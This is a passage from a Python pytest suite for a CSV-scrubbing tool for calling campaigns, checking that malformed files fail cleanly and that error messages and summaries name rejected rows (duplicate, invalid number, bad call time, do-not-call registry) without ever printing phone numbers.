    "no-header-phone-column": (f"{SECRET},{SLOT}\n", ("--phone-column", "tel")),
    "no-header-postal-code-column": (f"{SECRET},{SLOT}\n", ("--postal-code-column", "cp")),
    "ragged": (HEADER + f"{SECRET},{SLOT},extra\n", ()),
    "unclosed-quote": (HEADER + f'"{SECRET},{SLOT}\n', ()),
    "stray-quote": (HEADER + f'{SECRET}",{SLOT}\n' + GOOD, ()),
    "nul": (HEADER + f"{SECRET}\x00,{SLOT}\n", ()),
    "mac-roman": (f"phone,call_at,name\n{SECRET},{SLOT},Hélène\n".encode("mac-roman"), ()),
    "wrong-encoding-option": (
        f"phone,call_at,name\n{SECRET},{SLOT},名前\n",
        ("--encoding", "ascii"),
    ),
}


@pytest.mark.parametrize("case", list(BROKEN_WITH_NUMBERS))
def test_errors_never_quote_phone_numbers(case: str, tmp_path: Path) -> None:
    content, extra = BROKEN_WITH_NUMBERS[case]
    campaign = write_csv(tmp_path / "campaign.csv", content)
    res = scrub(campaign, tmp_path, *extra)
    assert res.code in {2, 3}, (res.code, res.err)
    assert "Traceback" not in res.err
    _no_phone_on(res.err)


def test_summary_names_rows_never_numbers(tmp_path: Path) -> None:
    other, short, late, listed = "0687412358", "06 87 41 23 5", "0687412357", "0687412356"
    text = (
        HEADER + f"{SECRET},{SLOT}\n{SECRET},{SLOT}\n{short},{SLOT}\n"
        f"{late},31/11/2026\n{listed},{SLOT}\n{other},{SLOT}\n"
    )
    campaign = write_csv(tmp_path / "campaign.csv", text)
    registry = write_csv(tmp_path / "dnc.csv", f"numero\n{listed}\nn/a\n")
    res = scrub(
        campaign,
        tmp_path,
        "--registry",
        str(registry),
        "--registry-date",
        "2026-11-22",
        "--max-unusable",
        "50",
        summary=True,
    )
    clean, rejects = assert_no_row_lost(res, 6)
    assert [row(rejects, i)["reason"] for i in (2, 3, 4, 5)] == [
        "duplicate",
        "invalid_number",
        "invalid_call_time",
        "registry",
    ]
    assert (
        "source_row 1" in row(rejects, 2)["detail"]
    )  # the duplicate names the row it repeats, by source_row
    assert res.summary["registries"][0]["invalid_rows"] == 1
    for text_out in (res.err, res.summary_path.read_text(encoding="utf-8")):
        _no_phone_on(text_out, SECRET, other, late, listed, "0687412350")
        assert "87 41 2" not in text_out
